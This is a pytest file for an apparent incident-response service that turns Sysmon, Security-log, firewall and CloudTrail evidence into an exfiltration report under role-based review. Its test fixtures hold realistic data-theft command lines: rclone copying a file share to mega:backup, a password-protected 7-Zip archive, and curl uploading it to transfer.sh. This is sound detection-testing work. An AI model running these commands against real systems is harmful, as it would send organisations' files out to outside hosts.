"""The exfiltration picture of a case, from evidence analysed the way the desk does it:
event-log exports with rclone and 7-Zip command lines, a firewall CSV with a large
transfer, a CloudTrail GetObject burst. The desk's review decides what a reporter sees."""

from __future__ import annotations

import json

import pytest
from tests.services.leak_world import SYSMON, actor, event, jsonl, upload_and_analyse
from tests.world import build_world

from madoguchi.bootstrap import Desk
from madoguchi.domain.errors import NotFoundError, PermissionDeniedError, ValidationError
from madoguchi.domain.leak import ExfilKind, ReviewState
from madoguchi.services import exfiltration

HOST = "FS01.example.local"


def _process_events() -> bytes:
    return jsonl(
        [
            event(
                11,
                "2024-04-12T01:00:00Z",
                1,
                SYSMON,
                {
                    "Image": "C:\\ProgramData\\rclone.exe",
                    "OriginalFileName": "rclone.exe",
                    "CommandLine": 'rclone.exe copy "\\\\FS01\\Share\\経理" mega:backup '
                    '--include "*.xlsx" --max-age 1y -q --transfers 8',
                    "User": "EXAMPLE\\svc_backup",
                    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
                },
                HOST,
            ),
            event(
                12,
                "2024-04-12T00:50:00Z",
                1,
                SYSMON,
                {
                    "Image": "C:\\Program Files\\7-Zip\\7z.exe",
                    "CommandLine": "7z.exe a -tzip -mx1 -pS3cr3tPW C:\\ProgramData\\out.zip "
                    "\\\\FS01\\Share\\人事 -r",
                    "User": "EXAMPLE\\svc_backup",
                    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
                },
                HOST,
            ),
            event(
                13,
                "2024-04-12T00:55:00Z",
                4688,
                "Security",
                {
                    "SubjectUserName": "admin2",
                    "SubjectDomainName": "EXAMPLE",
                    "NewProcessName": "C:\\Windows\\System32\\curl.exe",
                    "CommandLine": 'curl.exe -F "file=@C:\\ProgramData\\out.zip" '
                    "https://transfer.sh/out.zip",
                    "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                },
                HOST,
            ),
            event(
                14,
                "2024-04-12T00:56:00Z",
                4688,
                "Security",
                {
                    "SubjectUserName": "admin2",
                    "SubjectDomainName": "EXAMPLE",
                    "NewProcessName": "C:\\Windows\\System32\\curl.exe",
                    "CommandLine": "curl.exe -o C:\\ProgramData\\tool.exe https://example.org/t",
                    "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                },
                HOST,
            ),
        ]
    )


FIREWALL = (
    b"time,srcip,dstip,dstport,app,user,sentbyte,rcvdbyte\n"
    b"2024-04-12T01:00:00Z,10.0.0.15,198.51.100.23,443,SSL,EXAMPLE\\svc_backup,734003200,1200\n"
    b"2024-04-12T01:40:00Z,10.0.0.15,198.51.100.23,443,SSL,EXAMPLE\\svc_backup,838860800,1300\n"
    b"2024-04-12T01:41:00Z,10.0.0.22,203.0.113.9,443,HTTPS,EXAMPLE\\user3,52000,880000\n"
    b"2024-04-12T01:42:00Z,10.0.0.22,10.0.0.5,445,SMB,EXAMPLE\\user3,9000000000,1000\n"
)


def _cloudtrail() -> bytes:
    records = [
        {
            "eventVersion": "1.09",
            "userIdentity": {
                "type": "IAMUser",
                "arn": "arn:aws:iam::111122223333:user/etl",
                "accountId": "111122223333",
                "accessKeyId": "AKIAEXAMPLEKEY000009",
                "userName": "etl",
            },
            "eventTime": f"2025-01-10T03:{i // 60:02d}:{i % 60:02d}Z",
            "eventSource": "s3.amazonaws.com",
            "eventName": "GetObject",
            "awsRegion": "ap-northeast-1",
            "sourceIPAddress": "203.0.113.50",
            "userAgent": "rclone/v1.66.0",
            "requestParameters": {"bucketName": "customer-data", "key": f"exports/{i}.csv"},
            "additionalEventData": {"bytesTransferredOut": 5_000_000},
            "eventID": f"00000000-0000-4000-8000-{i:012d}",
            "readOnly": True,
            "eventType": "AwsApiCall",
            "managementEvent": False,
            "recipientAccountId": "111122223333",
            "eventCategory": "Data",
        }
        for i in range(150)
    ]
    return json.dumps({"Records": records}).encode()


def _by_tool(items: list, tool: str):  # type: ignore[no-untyped-def]
    found = [i for i in items if i.tool == tool]
    assert found, f"no {tool} item in {[i.summary for i in items]}"
    return found[0]


def test_the_picture_names_tools_paths_destinations_amounts_and_evidence(desk: Desk) -> None:
    world = build_world(desk)
    evtx_id = upload_and_analyse(desk, world, _process_events(), "Sysmon.jsonl")
    fw_id = upload_and_analyse(desk, world, FIREWALL, "fortigate-traffic.csv")
    ct_id = upload_and_analyse(desk, world, _cloudtrail(), "cloudtrail.json")
    handler = actor(desk, world, "desk_handler")
    with desk.uow_factory() as uow:
        items = exfiltration.assemble_case(uow, handler, world.case_a)
        uow.commit()

    rclone = _by_tool(items, "rclone")
    assert rclone.kind is ExfilKind.TOOL
    assert rclone.sources == ["\\\\FS01\\Share\\経理"]
    assert rclone.destinations == ["mega:backup"]
    assert "--include *.xlsx" in rclone.filters and "--max-age 1y" in rclone.filters
    assert rclone.hosts == [HOST] and rclone.accounts == ["EXAMPLE\\svc_backup"]
    assert rclone.first_seen is not None and rclone.first_seen.isoformat().startswith(
        "2024-04-12T01:00"
    )
    assert rclone.confidence >= 80
    assert [(e.evidence_id, e.record_id) for e in rclone.evidence] == [(evtx_id, 11)]

    archive = _by_tool(items, "7-zip")
    assert archive.kind is ExfilKind.ARCHIVE
    assert archive.sources == ["\\\\FS01\\Share\\人事"]
    assert "C:\\ProgramData\\out.zip" in archive.summary and "password" in archive.summary
    # The password itself is never repeated.
    assert all("S3cr3tPW" not in e.what for e in archive.evidence)

    upload = _by_tool(items, "curl")
    assert upload.destinations == ["https://transfer.sh/out.zip"]
    assert upload.sources == ["C:\\ProgramData\\out.zip"]
    assert len([i for i in items if i.tool == "curl"]) == 1, "a download is not exfiltration"

    transfer = next(i for i in items if i.kind is ExfilKind.TRANSFER)
    assert transfer.sources == ["10.0.0.15"] and transfer.destinations == ["198.51.100.23"]
    assert transfer.bytes == 734003200 + 838860800
    assert transfer.evidence[0].evidence_id == fw_id
    assert not any("10.0.0.5" in i.destinations for i in items), "internal traffic is not sent out"
    assert not any("203.0.113.9" in i.destinations for i in items), "small uploads are not listed"

    cloud = next(i for i in items if i.kind is ExfilKind.CLOUD)
    assert cloud.sources == ["customer-data"] and cloud.destinations == ["203.0.113.50"]
    assert cloud.bytes == 150 * 5_000_000
    assert cloud.accounts == ["arn:aws:iam::111122223333:user/etl"]
    assert cloud.evidence[0].evidence_id == ct_id


def test_only_confirmed_shared_items_reach_the_reporter_and_reviews_survive(desk: Desk) -> None:
    world = build_world(desk)
    upload_and_analyse(desk, world, _process_events(), "Sysmon.jsonl")
    handler = actor(desk, world, "desk_handler")
    vendor = actor(desk, world, "party_reporter")
    with desk.uow_factory() as uow:
        items = exfiltration.assemble_case(uow, handler, world.case_a)
        rclone = _by_tool(items, "rclone")
        archive = _by_tool(items, "7-zip")
        assert rclone.id is not None and archive.id is not None
        exfiltration.review_item(
            uow,
            handler,
            world.case_a,
            rclone.id,
            ReviewState.CONFIRMED,
            shared_with=[world.vendor_org],
            personal_data=True,
        )
        exfiltration.review_item(uow, handler, world.case_a, archive.id, ReviewState.REJECTED)
        uow.commit()
    with desk.uow_factory() as uow:
        seen = exfiltration.case_picture(uow, vendor, world.case_a)
        uow.commit()
    assert [i.tool for i in seen.possibly_leaked] == ["rclone"]
    assert seen.personal_data
    with desk.uow_factory() as uow:  # the reporter's read is audited
        actions = [e.action for e in uow.audit.for_case(world.case_a)]
    assert "exfil:read" in actions
    # Assembling again keeps the desk's decisions.
    with desk.uow_factory() as uow:
        again = exfiltration.assemble_case(uow, handler, world.case_a)
        uow.commit()
    states = {i.tool: i.state for i in again}
    assert states["rclone"] is ReviewState.CONFIRMED and states["7-zip"] is ReviewState.REJECTED


def test_reporters_cannot_assemble_review_or_read_other_cases(desk: Desk) -> None:
    world = build_world(desk)
    vendor = actor(desk, world, "party_reporter")
    other = actor(desk, world, "other_reporter")
    handler = actor(desk, world, "desk_handler")
    with desk.uow_factory() as uow:
        with pytest.raises(PermissionDeniedError):
            exfiltration.assemble_case(uow, vendor, world.case_a)
        with pytest.raises(NotFoundError):
            exfiltration.case_picture(uow, other, world.case_a)
        with pytest.raises(ValidationError):
            exfiltration.review_item(uow, handler, world.case_a, 999_999, ReviewState.CONFIRMED)


def _share_reads(files: int, share: str, account: str) -> bytes:
    """Detailed file share events (5145) as a file server logs a bulk read."""
    events = [
        event(
            1000 + i,
            f"2024-04-12T00:{i // 60:02d}:{i % 60:02d}Z",
            5145,
            "Security",
            {
                "SubjectUserName": account,
                "SubjectDomainName": "EXAMPLE",
                "IpAddress": "10.0.0.15",
                "ShareName": f"\\\\*\\{share}",
                "RelativeTargetName": f"経理\\2024\\invoice-{i:04d}.xlsx",
                "AccessMask": "0x120089",
                "AccessList": "%%1538 %%1541 %%4416 %%4419 %%4423",
            },
            HOST,
        )
        for i in range(files)
    ]
    return jsonl(events)


def test_bulk_reads_from_a_file_share_become_a_share_item(desk: Desk) -> None:
    world = build_world(desk)
    evidence_id = upload_and_analyse(
        desk, world, _share_reads(140, "Finance", "svc_backup"), "Security-fs01.jsonl"
    )
    # The same account reading a handful of files, and the IPC$ pipe traffic every client
    # makes, are ordinary and stay out of the picture.
    upload_and_analyse(desk, world, _share_reads(20, "HR", "svc_backup"), "Security-fs02.jsonl")
    upload_and_analyse(desk, world, _share_reads(140, "IPC$", "user3"), "Security-fs03.jsonl")
    handler = actor(desk, world, "desk_handler")
    with desk.uow_factory() as uow:
        items = exfiltration.assemble_case(uow, handler, world.case_a)
        uow.commit()
    shares = [i for i in items if i.kind is ExfilKind.SHARE]
    assert len(shares) == 1, [i.summary for i in items]
    item = shares[0]
    assert item.sources[0] == "\\\\*\\Finance"
    assert any(s.endswith("invoice-0000.xlsx") for s in item.sources[1:])
    assert item.summary.startswith("at least 100 files")
    assert item.hosts == [HOST] and item.destinations == ["10.0.0.15"]
    assert item.accounts and "svc_backup" in item.accounts[0]
    assert item.evidence[0].evidence_id == evidence_id
